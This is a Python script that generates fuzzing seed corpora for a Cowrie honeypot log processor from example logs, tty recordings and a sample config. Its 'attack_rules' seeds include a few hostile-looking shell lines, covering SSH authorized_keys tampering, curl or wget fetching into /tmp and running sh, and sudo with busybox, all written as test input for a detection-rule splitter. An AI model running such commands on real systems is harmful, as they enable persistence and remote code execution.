#!/usr/bin/env python3
"""Seed corpora for the fuzz targets, made from the project's own example logs.

    fuzz/make_seeds.py BINARY OUTDIR

writes OUTDIR/<target>/<n> for every target of fuzz/targets.hpp. BINARY is a cowrie-batch
built without the fuzzer (its `mr` steps turn example logs into Hadoop Streaming records).
Each seed is small (a few KiB): libFuzzer mutates small inputs fastest.
"""
import bz2
import gzip
import json
import pathlib
import subprocess
import sys

ROOT = pathlib.Path(__file__).resolve().parent.parent
LOGS = ROOT / "examples" / "logs"
MAX_SEED = 8192


def log_lines():
    lines = []
    for path in sorted(LOGS.glob("cowrie.json*")):
        lines += [l for l in path.read_bytes().splitlines() if l.strip()]
    return lines


def sessions(lines):
    """The lines of each session, in file order, smallest sessions first."""
    by = {}
    for line in lines:
        try:
            key = json.loads(line).get("session", "")
        except ValueError:
            continue
        by.setdefault(key, []).append(line)
    return sorted(by.values(), key=lambda ls: (sum(map(len, ls)), ls[0]))


def session_chunks(lines, n=40):
    chunks = []
    for group in sessions(lines):
        chunk = b"\n".join(group) + b"\n"
        if len(chunk) <= MAX_SEED:
            chunks.append(chunk)
    step = max(1, len(chunks) // n)
    return chunks[::step][:n]


def one_per_eventid(lines, per=3):
    seen, out = {}, []
    for line in lines:
        try:
            eid = json.loads(line).get("eventid", "")
        except ValueError:
            continue
        if seen.get(eid, 0) < per:
            seen[eid] = seen.get(eid, 0) + 1
            out.append(line)
    return out


def zstd(data):
    return subprocess.run(["zstd", "-q", "-c"], input=data, stdout=subprocess.PIPE, check=True).stdout


def mr(binary, step, data, env=None):
    return subprocess.run([binary, "mr", step], input=data, stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL, check=True, env=env).stdout


STEPS = ["map-sessions", "combine-sessions", "reduce-sessions", "map-markers", "combine-markers",
         "reduce-markers", "map-analyses", "combine-analyses", "reduce-analyses"]


def streaming_seeds(binary, chunks):
    """The input of every step, as the previous step made it: byte 0 picks the step."""
    seeds = []
    for chunk in chunks[:12]:
        mapped = mr(binary, "map-sessions", chunk)
        partials = mr(binary, "reduce-sessions", b"".join(sorted(mapped.splitlines(True))))
        markers = mr(binary, "map-markers", partials)
        states = mr(binary, "map-analyses", partials)
        by_step = {"map-sessions": chunk, "combine-sessions": mapped, "reduce-sessions": mapped,
                   "map-markers": partials, "combine-markers": markers, "reduce-markers": markers,
                   "map-analyses": partials, "combine-analyses": states, "reduce-analyses": states}
        for step, data in by_step.items():
            if len(data) <= 4 * MAX_SEED:
                seeds.append(bytes([STEPS.index(step)]) + data)
    return seeds


COWRIE_CFG = b"""[honeypot]
hostname = svr04
log_path = var/log/cowrie
# a comment
; another
kernel_version = 3.2.0-4-amd64
hardware_platform = x86_64

[shell]
filesystem = share/cowrie/fs.pickle
processes = share/cowrie/cmdoutput.json
arch = linux-x64-lsb
uname: Linux svr04 3.2.0-4-amd64
  continued line

[ssh]
enabled = true
version = SSH-2.0-OpenSSH_6.0p1 Debian-4+deb7u2
"""


def main():
    binary, out = sys.argv[1], pathlib.Path(sys.argv[2])
    lines = log_lines()
    chunks = session_chunks(lines)
    ttys = [p.read_bytes()[:MAX_SEED] for p in sorted((LOGS / "tty").iterdir())]
    corpora = {
        "event_parser": one_per_eventid(lines),
        "pipeline": chunks,
        "decoders": [bytes([i % 7]) + c for i, c in enumerate(chunks[:10])]
        + [bytes([3]) + gzip.compress(c, mtime=0) for c in chunks[:8]]
        + [bytes([5]) + bz2.compress(c) for c in chunks[:8]]
        + [bytes([9]) + zstd(c) for c in chunks[:8]],
        "ttylog": [bytes([i * 13 % 64]) + t for i, t in enumerate(ttys)]
        + [bytes([63]) + gzip.compress(t, mtime=0) for t in ttys[:3]],
        "streaming": streaming_seeds(binary, chunks),
        "cowrie_cfg": [COWRIE_CFG, COWRIE_CFG.replace(b"\n", b"\r\n")],
        # The shipped rules, and command lines for the splitter the rules see.
        "attack_rules": [(ROOT / "rules" / "attack.toml").read_bytes(),
                         b'cd ~ && rm -rf .ssh; echo "k" >> .ssh/authorized_keys | chmod -R go= ~/.ssh',
                         b'nohup $SHELL -c "curl http://x/y -o /tmp/z; sh -c \'id\'" & `uname` $(which ls)',
                         b"sudo -u root env A=1 /bin/busybox wget http://x 2>&1 >/dev/null || ${HOME}"],
    }
    for target, seeds in corpora.items():
        folder = out / target
        folder.mkdir(parents=True, exist_ok=True)
        for i, seed in enumerate(seeds):
            (folder / f"seed-{i:03d}").write_bytes(seed)
        print(f"{target}: {len(seeds)} seeds", file=sys.stderr)


if __name__ == "__main__":
    main()
